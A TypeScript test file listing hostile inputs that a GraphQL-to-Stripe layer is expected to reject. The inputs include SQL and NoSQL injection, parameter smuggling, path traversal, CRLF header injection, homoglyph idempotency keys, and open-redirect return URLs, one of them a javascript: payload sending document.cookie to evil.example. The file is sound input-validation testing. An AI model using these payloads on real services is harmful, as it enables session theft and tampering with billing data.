/** Hostile variables, ids, cursors and portal-session inputs: refused before any Stripe call. */
import { DEMO } from '../../../src/local-stripe/index.js';
import { DEFAULT_LIMITS } from '../../../src/config.js';
import { type Entry, SESSION, CUSTOMER_BY_ID, badInput, badRequest, overLimit, HOSTILE_CUSTOMER_IDS } from './corpus.js';

export const INPUT_ENTRIES: Entry[] = [
  // ---------------------------------------------------------------------------------------------------------------
  // Variables of the wrong type: refused while coercing, HTTP 400, no data.
  { name: 'a NoSQL operator object as an ID', query: CUSTOMER_BY_ID, variables: { id: { $ne: null } }, expect: badRequest },
  { name: 'an array as an ID', query: CUSTOMER_BY_ID, variables: { id: [DEMO.customer, DEMO.businessCustomer] }, expect: badRequest },
  {
    name: 'a 200-deep nested list as an ID',
    query: CUSTOMER_BY_ID,
    variables: { id: JSON.parse(`${'['.repeat(200)}"x"${']'.repeat(200)}`) as unknown },
    // Refused by the variable depth limit, before coercion.
    expect: overLimit('variables'),
  },
  { name: 'a required ID as null', query: CUSTOMER_BY_ID, variables: { id: null }, expect: badRequest },
  {
    name: 'a string as first',
    query: 'query($n: Int) { customers(first: $n) { edges { cursor } } }',
    variables: { n: '10; DROP TABLE' },
    expect: badRequest,
  },
  {
    name: 'first beyond a 32-bit Int',
    query: 'query($n: Int) { customers(first: $n) { edges { cursor } } }',
    variables: { n: 2 ** 40 },
    expect: badRequest,
  },
  {
    name: 'an injected enum value',
    query: 'query($s: InvoiceStatus) { invoices(status: $s) { edges { cursor } } }',
    variables: { s: "PAID' OR status:'draft" },
    expect: badRequest,
  },
  {
    name: 'a DateTime with an injection',
    query: 'query($t: DateTime) { invoices(createdAfter: $t) { edges { cursor } } }',
    variables: { t: "2026-01-01T00:00:00Z' OR created>0" },
    expect: badRequest,
  },
  {
    name: 'an injected portal locale',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, locale: 'en&locale=xx' } },
    expect: badRequest,
  },
  {
    name: 'an unknown input field (mass assignment)',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, customer: DEMO.businessCustomer, livemode: true } },
    expect: badRequest,
  },

  {
    name: 'a misspelt enum value in production: refused without suggestions',
    profile: 'production',
    query: 'query($s: InvoiceStatus) { invoices(status: $s) { edges { cursor } } }',
    variables: { s: 'PAD' },
    expect: badRequest,
  },
  {
    name: 'a misspelt input field in production: refused without suggestions',
    profile: 'production',
    query: SESSION,
    variables: { input: { customerID: DEMO.customer } },
    expect: badRequest,
  },

  // ---------------------------------------------------------------------------------------------------------------
  // Invalid ids of every kind, in every id argument: BAD_USER_INPUT naming the argument.
  ...HOSTILE_CUSTOMER_IDS.map(([what, id]): Entry => ({
    name: `customer(id): ${what}`,
    query: CUSTOMER_BY_ID,
    variables: { id },
    // An id longer than any string variable may be is refused before coercion, naming no argument.
    expect: id.length > DEFAULT_LIMITS.maxVariableStringLength ? overLimit('variables') : badInput('id'),
  })),
  {
    name: 'customer(id): an injection written into the document',
    query: `{ customer(id: ${JSON.stringify("cus_x' OR 1=1 --")}) { name } }`,
    expect: badInput('id'),
  },
  { name: 'invoice(id): a smuggled expand', query: 'query($id: ID!) { invoice(id: $id) { number } }', variables: { id: 'in_x?expand[]=customer' }, expect: badInput('id') },
  { name: 'invoice(id): path traversal', query: 'query($id: ID!) { invoice(id: $id) { number } }', variables: { id: 'in_x/../../customers' }, expect: badInput('id') },
  { name: 'node(id): path traversal', query: 'query($id: ID!) { node(id: $id) { id } }', variables: { id: 'cus_../../v1/charges' }, expect: badInput('id') },
  { name: 'node(id): an account id', query: 'query($id: ID!) { node(id: $id) { id } }', variables: { id: 'acct_1Evil' }, expect: badInput('id') },
  {
    name: 'portalConfiguration(id): traversal to customers',
    query: 'query($id: ID!) { portalConfiguration(id: $id) { active } }',
    variables: { id: 'bpc_x/../../../v1/customers' },
    expect: badInput('id'),
  },
  {
    name: 'invoices(customerId): a smuggled limit',
    query: 'query($c: ID) { invoices(customerId: $c) { edges { cursor } } }',
    variables: { c: `${DEMO.customer}&limit=100` },
    expect: badInput('customerId'),
  },
  {
    name: 'invoices(subscriptionId): SQL injection',
    query: 'query($s: ID) { invoices(subscriptionId: $s) { edges { cursor } } }',
    variables: { s: "sub_x' OR '1'='1" },
    expect: badInput('subscriptionId'),
  },

  // Cursors and page sizes.
  {
    name: 'after: a smuggled form parameter',
    query: 'query($c: String) { customers(first: 5, after: $c) { edges { cursor } } }',
    variables: { c: 'cus_x&limit=100' },
    expect: badInput('after'),
  },
  {
    name: 'after: SQL injection',
    query: 'query($c: String) { customers(first: 5, after: $c) { edges { cursor } } }',
    variables: { c: "cus_x' OR 1=1 --" },
    expect: badInput('after'),
  },
  {
    name: 'after: a null byte',
    query: 'query($c: String) { invoices(first: 5, after: $c) { edges { cursor } } }',
    variables: { c: 'in_x\u0000' },
    expect: badInput('after'),
  },
  {
    name: 'before: a smuggled expand',
    query: 'query($c: String) { invoices(last: 5, before: $c) { edges { cursor } } }',
    variables: { c: 'in_x?expand[]=data.customer' },
    expect: badInput('before'),
  },
  {
    name: 'after: 5,000 characters',
    query: 'query($c: String) { invoices(first: 5, after: $c) { edges { cursor } } }',
    variables: { c: `in_${'x'.repeat(5_000)}` },
    expect: badInput('after'),
  },
  {
    name: 'after: 10,000 characters',
    query: 'query($c: String) { invoices(first: 5, after: $c) { edges { cursor } } }',
    variables: { c: `in_${'x'.repeat(10_000)}` },
    // Over the variable string limit: refused before coercion.
    expect: overLimit('variables'),
  },
  { name: 'first: 101', query: '{ customers(first: 101) { edges { cursor } } }', expect: badInput('first') },
  { name: 'first: -1', query: '{ customers(first: -1) { edges { cursor } } }', expect: badInput('first') },
  { name: 'first: 0', query: '{ invoices(first: 0) { edges { cursor } } }', expect: badInput('first') },
  { name: 'last: 1,000', query: '{ invoices(last: 1000, before: "in_1") { edges { cursor } } }', expect: badInput('last') },

  // createPortalSession: every string of its input.
  { name: 'customerId: a smuggled second customer', query: SESSION, variables: { input: { customerId: `${DEMO.customer}&customer=${DEMO.businessCustomer}` } }, expect: badInput('customerId') },
  { name: 'configurationId: a smuggled expand', query: SESSION, variables: { input: { customerId: DEMO.customer, configurationId: 'bpc_x?expand[]=customer' } }, expect: badInput('configurationId') },
  { name: 'onBehalfOf: a smuggled account', query: SESSION, variables: { input: { customerId: DEMO.customer, onBehalfOf: 'acct_x&on_behalf_of=acct_y' } }, expect: badInput('onBehalfOf') },
  {
    name: 'flow subscriptionId: path traversal',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_UPDATE', subscriptionUpdate: { subscriptionId: 'sub_x/../../v1/subscriptions' } } } },
    expect: badInput('flow.subscriptionUpdate.subscriptionId'),
  },
  {
    name: 'flow retentionCouponId: SQL injection',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_CANCEL', subscriptionCancel: { subscriptionId: DEMO.subscription, retentionCouponId: "X' OR '1'='1" } } } },
    expect: badInput('flow.subscriptionCancel.retentionCouponId'),
  },
  {
    name: 'flow item id: a smuggled quantity',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_UPDATE_CONFIRM', subscriptionUpdateConfirm: { subscriptionId: DEMO.subscription, items: [{ id: 'si_x&quantity=0' }] } } } },
    expect: badInput('flow.subscriptionUpdateConfirm.items.0.id'),
  },
  {
    name: 'flow item priceId: a smuggled quantity',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_UPDATE_CONFIRM', subscriptionUpdateConfirm: { subscriptionId: DEMO.subscription, items: [{ id: 'si_x', priceId: 'price_x&quantity=1000' }] } } } },
    expect: badInput('flow.subscriptionUpdateConfirm.items.0.priceId'),
  },
  {
    name: 'flow discount couponId: a smuggled promotion code',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_UPDATE_CONFIRM', subscriptionUpdateConfirm: { subscriptionId: DEMO.subscription, items: [{ id: 'si_x' }], discounts: [{ couponId: 'X&promotion_code=promo_1' }] } } } },
    expect: badInput(/^flow\.subscriptionUpdateConfirm\.discounts(\.0(\.couponId)?)?$/),
  },
  {
    name: 'flow discount promotionCodeId: a newline',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'SUBSCRIPTION_UPDATE_CONFIRM', subscriptionUpdateConfirm: { subscriptionId: DEMO.subscription, items: [{ id: 'si_x' }], discounts: [{ promotionCodeId: 'promo_1\nX' }] } } } },
    expect: badInput(/^flow\.subscriptionUpdateConfirm\.discounts(\.0(\.promotionCodeId)?)?$/),
  },
  {
    name: 'flow redirectReturnUrl: javascript:',
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, flow: { type: 'PAYMENT_METHOD_UPDATE', afterCompletion: { type: 'REDIRECT', redirectReturnUrl: 'javascript:fetch(`//evil.example?c=${document.cookie}`)' } } } },
    expect: badInput('flow.afterCompletion.redirectReturnUrl'),
  },

  // idempotencyKey abuse.
  ...(
    [
      ['256 characters', 'k'.repeat(256)],
      ['a control character', 'order\u000142'],
      ['DEL', 'order\u007f42'],
      ['a tab', 'order\t42'],
      ['CRLF header injection', 'order-42\r\nIdempotency-Key: someone-elses-key'],
      ['a null byte', 'order-42\u0000'],
      ['non-ASCII look-alikes', 'оrdеr-42'],
    ] as const
  ).map(([what, idempotencyKey]): Entry => ({
    name: `idempotencyKey: ${what}`,
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, idempotencyKey } },
    expect: badInput('idempotencyKey'),
  })),

  // returnUrl tricks: no open redirect.
  ...(
    [
      ['userinfo before the real host', 'https://app.example.com@evil.example/billing'],
      ['userinfo with a port-like password', 'https://app.example.com:443@evil.example/'],
      ['credentials on the allowed host', 'https://admin:hunter2@app.example.com/billing'],
      ['a backslash before userinfo', 'https://evil.example\\@app.example.com/'],
      ['javascript:', 'javascript:alert(document.domain)'],
      ['JavaScript: in mixed case with whitespace', ' JaVaScRiPt:alert(1)'],
      ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
      ['protocol-relative', '//evil.example/billing'],
      ['a look-alike subdomain', 'https://app.example.com.evil.example/'],
      ['an IDN look-alike (Cyrillic а)', 'https://аpp.example.com/billing'],
      ['a punycode look-alike', 'https://xn--pp-8cd.example.com/billing'],
      ['another port', 'https://app.example.com:8443/billing'],
      ['another scheme', 'http://app.example.com/billing'],
      ['a newline splitting the host', 'https://app.example.com\n@evil.example/'],
      ['an encoded slash before @', 'https://app.example.com%2f@evil.example/'],
    ] as const
  ).map(([what, returnUrl]): Entry => ({
    name: `returnUrl: ${what}`,
    query: SESSION,
    variables: { input: { customerId: DEMO.customer, returnUrl } },
    expect: badInput('returnUrl'),
  })),

];
